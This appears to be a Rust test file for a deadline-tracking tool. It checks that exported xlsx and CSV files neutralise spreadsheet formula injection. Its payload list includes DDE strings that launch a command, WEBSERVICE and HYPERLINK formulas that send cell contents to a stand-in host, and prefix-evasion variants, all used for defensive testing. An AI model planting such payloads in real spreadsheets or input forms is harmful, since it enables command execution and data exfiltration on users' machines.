//! Workbooks, as python's `openpyxl` reads them, and texts that a spreadsheet would run.

use std::fs;

use kartoteka::render::xlsx::{Body, Book, Sheet, write};
use kartoteka::render::{Column, Grid, csv};

use super::{office, secrets};
use crate::judge;
use crate::office::Office;

/// What was written into forms to make spreadsheets run it.
const PAYLOADS: [&str; 24] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{1}=1+1",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"klik\")",
    "=WEBSERVICE(\"http://x.invalid/?\"&A1)",
    "=IMPORTXML(\"http://x.invalid/\",\"//a\")",
    "=\"\"&WEBSERVICE(\"http://x.invalid/\")",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1:A9)",
];

fn payloads() -> Grid {
    let mut grid = Grid::new(vec![Column::new("a", "A"), Column::new("b", "B")]);
    for payload in PAYLOADS {
        grid.push(vec![payload.into(), "x".into()]);
    }
    grid
}

#[test]
fn no_text_becomes_a_formula_in_a_workbook() {
    const SCRIPT: &str = "import sys, zipfile, openpyxl\n\
        sheet = openpyxl.load_workbook(sys.argv[1]).worksheets[0]\n\
        cells = [row[0] for row in sheet.iter_rows(min_row=2)]\n\
        assert all(c.data_type == 's' and c.quotePrefix and c.hyperlink is None for c in cells)\n\
        parts = zipfile.ZipFile(sys.argv[1])\n\
        xml = b''.join(parts.read(n) for n in parts.namelist() if n.startswith('xl/worksheets/'))\n\
        assert b'<f>' not in xml and b'<f ' not in xml and b'hyperlink' not in xml.lower()\n\
        print(len(cells), cells[0].value, cells[12].value, cells[20].value, sep='|')";
    let office = Office::in_memory();
    let book = Book {
        title: "t".to_owned(),
        on: office.env.now().date_naive(),
        sheets: vec![Sheet {
            name: "t".to_owned(),
            body: Body::Table {
                grid: payloads(),
                tints: Vec::new(),
            },
        }],
    };
    let file = office.env.file("a.xlsx", write(&book).unwrap());
    let said = judge::read_by(SCRIPT, &[&file]);
    assert_eq!(said, "24|=1+1|=cmd|'/C calc'!A0|＝1+1\n");
}

#[test]
fn no_text_becomes_a_formula_in_csv() {
    const SCRIPT: &str = "import csv, sys\n\
        rows = list(csv.reader(open(sys.argv[1], encoding='utf-8-sig', newline=''), delimiter=';', strict=True))\n\
        assert rows[0] == ['a', 'b']\n\
        assert all(len(row) == 2 and row[0].startswith(\"'\") for row in rows[1:]), rows\n\
        print(len(rows) - 1)";
    let office = Office::in_memory();
    let file = office.env.file("a.csv", csv::write(&payloads()).unwrap());
    assert_eq!(judge::read_by(SCRIPT, &[&file]), "24\n");
}

#[test]
fn the_morning_as_a_workbook_has_real_days() {
    const SCRIPT: &str = "import datetime, sys, openpyxl\n\
        book = openpyxl.load_workbook(sys.argv[1])\n\
        sheet = book.worksheets[0]\n\
        props = book.properties\n\
        print(book.sheetnames, sheet.freeze_panes, sheet.auto_filter.ref, props.creator, props.lastModifiedBy, props.created)\n\
        rules = sheet.conditional_formatting\n\
        print(sum(len(r.rules) for r in rules))\n\
        head = [c.value for c in sheet[1]]\n\
        print(head)\n\
        rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]\n\
        late = [r for r in rows if r[0] == 'po terminie'][0]\n\
        assert late[4] == datetime.datetime(2026, 11, 9), late\n\
        assert late[6] == -14, late\n\
        print(late[:4])\n\
        text = ' '.join(str(c) for r in rows for c in r)\n\
        assert not any(word in text for word in sys.argv[2:])";
    let office = office();
    let path = office.env.path("a.xlsx");
    let out = path.to_str().unwrap();
    let call = ["deadlines", "--format", "xlsx", "--out", out, "--quiet"];
    let said = office.run_beside(("KARTOTEKA_LANG", "pl"), &call);
    assert_eq!(said.status, 0, "{said}");
    let words = secrets();
    let words: Vec<&std::path::Path> = words.iter().map(std::path::Path::new).collect();
    let said = judge::read_by(SCRIPT, &[&[&*path][..], &words].concat());
    insta::assert_snapshot!(said, @r"
    ['Terminy', 'O zestawieniu'] A2 A1:L5 None None 2026-11-23 00:00:00
    3
    ['Stan', 'Sprawa', 'Czynność', 'Kogo lub czego dotyczy', 'Ostatni dzień', 'Ostatnia chwila', 'Pozostało dni', 'Czeka dni', 'Od dnia', 'Podstawa', 'Pewność', 'Wykonano']
    ['po terminie', 'NK-2026-0001', 'Przekazanie NK-A do zespołu', None]
    ");
    #[expect(clippy::disallowed_methods, reason = "files of the test")]
    let read = || fs::read(&path).unwrap();
    let first = read();
    office.run_beside(("KARTOTEKA_LANG", "pl"), &call);
    assert!(first == read());
}

#[test]
fn a_workbook_is_not_written_to_a_screen() {
    let office = office();
    let call = ["deadlines", "--format", "xlsx"];
    let said = office.run_on(kartoteka::store::Disk::default(), &call, "", true);
    assert_eq!((said.status, said.stdout.as_str()), (2, ""), "{said}");
}
